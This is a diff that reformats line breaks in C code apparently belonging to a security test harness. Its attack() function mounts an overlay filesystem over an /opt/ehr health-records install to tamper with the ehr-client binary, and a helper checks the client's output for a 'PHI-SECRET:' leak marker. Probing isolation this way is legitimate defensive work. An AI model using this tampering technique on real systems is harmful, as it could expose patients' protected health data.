@@ -27,7 +27,8 @@ static int run_client(const char *exe, char *const env[], void (*before)(void))
 		_exit(126);
 	}
 	close(out[1]);
-	while (len < sizeof(text) - 1 && (got = read(out[0], text + len, sizeof(text) - 1 - len)) > 0)
+	while (len < sizeof(text) - 1 &&
+	       (got = read(out[0], text + len, sizeof(text) - 1 - len)) > 0)
 		len += (size_t)got;
 	waitpid(pid, &status, 0);
 	if (memmem(text, len, "PHI-SECRET:", 11))
@@ -50,9 +51,11 @@ static int attack(void)
 		return r;
 	mkdir(own("upper"), 0755);
 	mkdir(own("work"), 0755);
-	snprintf(options, sizeof(options), "lowerdir=/opt/ehr,upperdir=%s,workdir=%s,userxattr", own("upper"), own("work"));
+	snprintf(options, sizeof(options), "lowerdir=/opt/ehr,upperdir=%s,workdir=%s,userxattr",
+		 own("upper"), own("work"));
 	if (mount("overlay", "/opt/ehr", "overlay", 0, options) < 0)
-		return errno == ENODEV || errno == EINVAL ? not_here("no overlay over this root") : refused("mount");
+		return errno == ENODEV || errno == EINVAL ? not_here("no overlay over this root")
+							  : refused("mount");
 	int fd = open("/opt/ehr/bin/ehr-client", O_WRONLY | O_APPEND);
 	if (fd < 0 && copy_file("/opt/ehr/bin/ehr-client", "/opt/ehr/new", 0755))
 		return AT_BROKEN;
